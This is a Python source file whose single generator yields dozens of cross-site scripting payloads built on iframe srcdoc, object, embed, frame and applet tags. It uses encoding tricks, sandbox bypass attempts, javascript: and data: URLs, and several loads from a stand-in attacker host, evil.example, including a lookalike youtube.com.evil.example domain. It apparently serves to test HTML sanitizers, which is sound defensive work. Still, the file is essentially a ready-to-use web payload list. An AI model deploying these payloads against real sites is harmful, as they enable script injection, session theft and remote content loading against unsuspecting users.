"""Documents within the document."""

from __future__ import annotations

from collections.abc import Iterator
from html import escape


def payloads() -> Iterator[str]:
    script = "<script>parent.@run@</script>"
    for inner in (
        script,
        "<img src=x onerror=parent.@run@>",
        "<svg onload=parent.@run@>",
        "<meta http-equiv=refresh content='0;url=@go@'>",
        "<base href=@load@/><img src=x>",
        "<iframe srcdoc='&lt;script>top.@run@&lt;/script>'></iframe>",
        "<body onload=parent.@run@>",
        "<link rel=stylesheet href=@load@>",
    ):
        yield f'<iframe srcdoc="{escape(inner)}"></iframe>'
        yield f"<IFRAME SRCDOC='{escape(inner)}' SANDBOX='allow-scripts allow-same-origin'></IFRAME>"
    yield f"<iframe srcdoc='{''.join(f'&#{ord(c)};' for c in '<script>parent.')}@run@&lt;/script>'></iframe>"
    yield f"<iframe/srcdoc='{script}'></iframe>"
    yield f"<iframe srcdoc={script.replace('>', '&gt;')}>"
    yield "<iframe srcdoc='&amp;lt;script&amp;gt;parent.@run@&amp;lt;/script&amp;gt;'></iframe>"
    yield "<iframe src=@load@></iframe>"
    yield "<iframe src=@load@ loading=lazy width=0 height=0></iframe>"
    yield "<iframe src='//evil.example/load/@n@' allow='camera;microphone'></iframe>"
    yield "<iframe src='https://www.youtube.com/embed/x\"onload=\"@run@' onload=@run@></iframe>"
    yield "<iframe src='https://www.youtube.com.evil.example/load/@n@'></iframe>"
    yield "<iframe src='https://player.vimeo.com/video/1\"><script>@run@</script>'></iframe>"
    yield "<iframe data-src='javascript:@run@' src=javascript:parent.@run@></iframe>"
    yield "<iframe src=about:blank onload=@run@></iframe>"
    yield "<iframe src='data:text/html,<script>parent.@run@</script>'></iframe>"
    yield "<iframe name='<img src=x onerror=@run@>' src=about:blank></iframe>"
    yield "<iframe><img src=x onerror=@run@></iframe><img src=x onerror=@run@>"
    yield "<iframe onload=@run@ /><p>words</p>"
    yield "<frameset onload=@run@><frame src=javascript:parent.@run@></frameset>"
    yield "<frame src=@load@><frame srcdoc='<script>@run@</script>'>"
    yield "<object type=text/html data='javascript:@run@'></object>"
    yield "<object data='data:text/html,<script>parent.@run@</script>'></object>"
    yield "<object data=@load@ type=application/x-shockwave-flash><param name=movie value=@load@></object>"
    yield "<object classid=clsid:x codebase=@load@><img src=x onerror=@run@></object>"
    yield "<embed src=@load@ type=text/html allowscriptaccess=always>"
    yield "<embed code='@load@' src='data:image/svg+xml,<svg onload=@run@>'>"
    yield "<embed src=javascript:@run@ type=text/html>"
    yield "<applet archive=@load@ code=x><param name=url value='javascript:@run@'></applet>"
    yield "<webview src=@load@></webview><browser src=@load@></browser>"
    yield "<noframes><script>@run@</script></noframes><noembed><img src=x onerror=@run@></noembed>"
